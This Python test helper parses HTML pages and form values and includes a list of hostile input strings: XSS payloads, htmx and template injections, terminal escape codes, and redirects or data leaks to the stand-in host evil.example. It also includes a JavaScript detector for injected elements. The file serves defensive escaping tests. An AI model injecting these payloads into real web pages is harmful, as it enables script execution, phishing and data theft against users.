"""HTML as a tree of elements, the values of a form, and texts that act if a page treats them as markup.

Imports the standard library only.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser

VOID = {"input", "link", "meta", "br", "hr", "img", "use"}


@dataclass
class Element:
    tag: str
    attributes: dict[str, str] = field(default_factory=dict)
    children: list[Element | str] = field(default_factory=list)

    @property
    def id(self) -> str:
        return self.attributes.get("id", "")

    @property
    def classes(self) -> set[str]:
        return set(self.attributes.get("class", "").split())

    @property
    def elements(self) -> list[Element]:
        return [child for child in self.children if isinstance(child, Element)]

    def walk(self) -> Iterator[Element]:
        """Yield this element and its descendants, in document order."""
        waiting = [self]
        while waiting:
            element = waiting.pop()
            yield element
            waiting += reversed(element.elements)

    def find(self, id_: str) -> Element | None:
        return next((element for element in self.walk() if element.id == id_), None)

    def all(self, *classes: str) -> list[Element]:
        return [element for element in self.walk() if element.classes >= set(classes)]

    @property
    def text(self) -> str:
        """The visible text, without running counters."""
        pieces: list[str] = []
        waiting: list[Element | str] = [self]
        while waiting:
            piece = waiting.pop()
            if isinstance(piece, str):
                pieces.append(piece)
            elif "tick" not in piece.classes:
                waiting += reversed(piece.children)
        return "".join(pieces)

    @property
    def words(self) -> str:
        return " ".join(self.text.split())


class _Builder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Element("#root")
        self.open_elements = [self.root]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = Element(tag, {name: value or "" for name, value in attrs})
        self.open_elements[-1].children.append(element)
        if tag not in VOID:
            self.open_elements.append(element)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.open_elements[-1].children.append(Element(tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        assert self.open_elements[-1].tag == tag, f"</{tag}> closes <{self.open_elements[-1].tag}>"
        self.open_elements.pop()

    def handle_data(self, data: str) -> None:
        self.open_elements[-1].children.append(data)


def parse(html: str) -> Element:
    """Parse HTML into a tree. Fail if a tag is not closed correctly."""
    builder = _Builder()
    builder.feed(html)
    builder.close()
    assert builder.open_elements == [builder.root], f"not closed: {builder.open_elements[-1].tag}"
    return builder.root


class ParsedPage:
    """A timeline, and the rest of its page."""

    def __init__(self, html: str) -> None:
        self.root = parse(html)

    def element(self, id_: str) -> Element:
        found = self.root.find(id_)
        assert found is not None, f"there is no #{id_}"
        return found

    @property
    def timeline(self) -> Element:
        return self.element("timeline")

    @property
    def rows(self) -> list[Element]:
        return [child for child in self.timeline.elements if child.tag == "li" and child.id != "older"]

    def seen(self) -> dict[str, tuple[str, frozenset[str]]]:
        """Return the text and the classes of every row, by its ID."""
        ids = [row.id for row in self.rows]
        assert len(ids) == len(set(ids)), "an id that is there twice"
        return {row.id: (row.words, frozenset(row.classes - {"is-target"})) for row in self.rows}


def form_values(page: str, css_class: str) -> dict[str, str | list[str]]:
    """Return the values of the form with this class, without buttons. Ticked boxes are a list."""
    [form] = [element for element in parse(page).all(css_class) if element.tag == "form"]
    values: dict[str, str | list[str]] = {}
    for element in form.walk():
        name = element.attributes.get("name", "")
        if not name or element.tag == "button":
            continue
        if element.attributes.get("type") in ("checkbox", "radio"):
            if "checked" in element.attributes:
                values[name] = [*values.get(name, []), element.attributes.get("value", "on")]
        elif element.tag == "textarea":
            values[name] = element.text.removeprefix("\n")
        elif element.tag == "select":
            values[name] = _chosen(element)
        else:
            values[name] = element.attributes.get("value", "")
    return values


def _chosen(select: Element) -> str:
    options = [element for element in select.walk() if element.tag == "option"]
    chosen = [option for option in options if "selected" in option.attributes] or options[:1]
    return next((option.attributes.get("value", option.text) for option in chosen), "")


#: Rows 90 to 94 of the bad inputs.
HOSTILE = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<svg onload=alert('svg')><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<a href=\"javascript:alert('href')\">click</a>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "<style>@import 'http://evil.example/x.css'; * { display: none }</style>",
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><button>Log in</button></form>',
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=alert('mxss')>\">",
    "</li></ol></main></body><h1 id=broken>out</h1>",
    "</textarea></pre></bdi></template><h1 id=broken>out</h1>",
    '<div hx-get="/admin/" hx-trigger="load" hx-target="body">x</div>',
    "<div hx-on:click=\"alert('on')\" hx-on--load=\"alert('load')\" _=\"on load call alert('hyper')\">x</div>",
    '<div data-hx-get="/login" data-hx-trigger="load" data-hx-swap-oob="true" id="head">x</div>',
    '<li id="e1" hx-swap-oob="outerHTML:#timeline">gone</li>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css><object data=//evil.example></object>",
    "![x](http://evil.example/?q=secret) [a](javascript:alert('markdown'))",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
    "\u202egnp.exe\u2066 \u200bzero\u200dwidth\ufeff",
    "data: x\n\nevent: end\ndata: y\n\nid: 99999\n\n",
    "data: x\r\revent: end\rdata: y\r\r",
    "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://evil.example\x07link \x9b31m \b\b\b",
    "[a](data:text/html,<script>alert(1)</script>) [b](//evil.example/) <javascript:alert(1)> [c]: javascript:alert(1)",
    "```html\n<script>alert('fence')</script>\n```\n\n    <img src=x onerror=alert('code')>",
    "| <b onclick=alert(1)>h</b> |\n|---|\n| ![i](javascript:alert(1)) |\n\n# <svg onload=alert('heading')>",
    "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-<script>alert('diff')</script>\n+<img src=x onerror=alert(1)>",
    '{"<script>alert(1)</script>": ["<img src=x onerror=alert(1)>", "\\u001b]8;;http://evil.example\\u0007\\u202e"]}',
    "\x1b[31m<script>alert('tty')</script>\x1b[0m\x1b]0;<svg onload=alert(1)>\x07",
    "[" * 3000 + ">" * 3000 + "*" * 3000,
    "\u2028\u2029 lines ]]> <![CDATA[ <!-- comment",
    "Z" + "\u0301" * 500 + " " + "W" * 5000,
]
WHOLE = "\n".join(HOSTILE)
#: Elements, handlers and URLs in `main` that only such a text could have added.
FOREIGN = r"""() => {
  const tags = /^(script|img|iframe|style|base|math|object|link|meta|animate|mglyph|mtext)$/i;
  const acts = /^(on|hx-on|data-hx-|_$|srcdoc)/i;
  const ours = /^([/?#]|$)/;
  // A link of a Markdown text leads out, and says so; a picture comes from this site.
  const leads = (node) => node.tagName === "A" && node.closest(".markdown") && node.relList.contains("nofollow") &&
    /^(https?|mailto):$/.test(node.protocol);
  const picture = (node) => node.tagName === "IMG" && node.closest(".picture") &&
    node.src.startsWith(`${location.origin}/runs/`);
  const strange = (node) => !leads(node) && !picture(node) && (node.id === "broken" || tags.test(node.tagName) ||
    [...node.attributes].some(({ name, value }) => acts.test(name) ||
      (/^(href|src|action|formaction|hx-get|hx-post)$/.test(name) && (!ours.test(value) || value.startsWith("//"))) ||
      (name === "hx-get" && !/^\/(runs|p)\//.test(value))));
  return [...document.querySelectorAll("main *, body > #broken")].filter(strange).map((node) => node.outerHTML);
}"""
